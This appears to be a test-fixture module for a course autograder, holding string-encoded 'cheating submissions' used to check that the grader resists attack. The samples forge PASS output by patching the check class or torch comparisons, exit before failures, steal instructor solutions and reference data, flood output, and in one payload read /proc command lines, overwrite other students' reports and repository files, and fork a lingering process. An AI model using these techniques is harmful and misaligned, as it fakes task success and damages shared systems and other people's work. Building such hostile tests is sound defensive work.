"""Source code of the cheating submissions (each a string, written as a student's file).

Each attack is the body of an exercise module, or code prepended to a correct solution. Paths
the attacks aim at are filled in by `tests/hostile/classroom.py` (they know the real paths:
the strongest version of the attack).
"""

# Patch the checks at import: every check prints its PASS line, whatever the code does.
PATCH_CHECK_CALL = '''
import sys as _s
_m = _s.modules.get("course.checks.core") or __import__("course.checks.core", fromlist=["x"])
def _forged(self, impl, reference=None, quiet=False):
    print("PASS %s (%d cases)" % (self.id, len(self.cases)))
setattr(_m.Check, "__call__", _forged)
'''

# Answer from the recorded references, in the order the visible check asks (its cases are fixed).
FROM_REFERENCE = '''
import torch
from pathlib import Path
_calls = []
def batched_dot(a, b):
    here = Path(__file__).resolve().parent.parent
    recorded = torch.load(here / "course" / "reference_data" / ("00." + "batched_dot.pt"),
                          weights_only=True)
    names = list(recorded)
    answer = recorded[names[len(_calls) % len(names)]]["output"]
    _calls.append(1)
    return answer
'''

# Walk up from the interpreter and this file to find the instructor's solutions/.
WALK_TO_SOLUTIONS = '''
import importlib.util, sys
from pathlib import Path
def _find():
    for start in (Path(sys.executable), Path(__file__).resolve(), Path.cwd()):
        for parent in [start, *start.parents]:
            candidate = parent / "solutions" / "softmax.py"
            if candidate.is_file():
                return candidate
_path = _find()
if _path is None:
    def stable_softmax(x, dim=-1):
        raise NotImplementedError("no solutions found")
    def scaled_scores(q, k):
        raise NotImplementedError("no solutions found")
else:
    _spec = importlib.util.spec_from_file_location("stolen_softmax", _path)
    _mod = importlib.util.module_from_spec(_spec)
    _spec.loader.exec_module(_mod)
    stable_softmax, scaled_scores = _mod.stable_softmax, _mod.scaled_scores
'''

# Print the PASS line, then kill the process before the check can fail.
PASS_THEN_EXIT = '''
import os
def batched_dot(a, b):
    print("PASS 00.batched_dot (4 cases)", flush=True)
    os._exit(0)
'''

# Wrong code, and torch patched so that the visible comparison sees no difference.
PATCH_TORCH = '''
import builtins
import torch
def batched_dot(a, b):
    return (a * b).sum()
torch.Tensor.any = lambda self, *args, **kwargs: torch.tensor(False)
torch.isnan = lambda t: torch.zeros_like(t, dtype=torch.bool)
builtins.any = lambda iterable: False
'''

# Harm others: read the grader's command line, write into OUT, SUBMISSIONS, the pristine copy,
# the repository and other students' reports; leave a process behind that keeps trying.
HARM_OTHERS = '''
import glob, os, time
from pathlib import Path
TARGETS = {targets!r}
def _attempt():
    found = []
    for cmdline in glob.glob("/proc/*/cmdline"):
        try:
            found += open(cmdline, "rb").read().split(b"\\0")
        except OSError:
            pass
    for folder in TARGETS["folders"] + [f.decode(errors="replace") for f in found if f.startswith(b"/")]:
        for name in ("PWNED.txt", "reports/PWNED.md"):
            try:
                Path(folder, name).write_text("PWNED")
            except OSError:
                pass
    for path in TARGETS["files"] + glob.glob(TARGETS["pristine_glob"]):
        try:
            Path(path).write_text("PWNED = 1\\nraise SyntaxError(\\"PWNED\\")\\n")
        except OSError:
            pass
_attempt()
if os.fork() == 0:  # a child that outlives the check and keeps trying
    os.setsid()
    for _ in range(60):
        _attempt()
        time.sleep(0.5)
    os._exit(0)
'''

# Print a flood (20 MB) and otherwise behave.
FLOOD = '''
import sys
sys.stdout.write("x" * 20_000_000)
'''
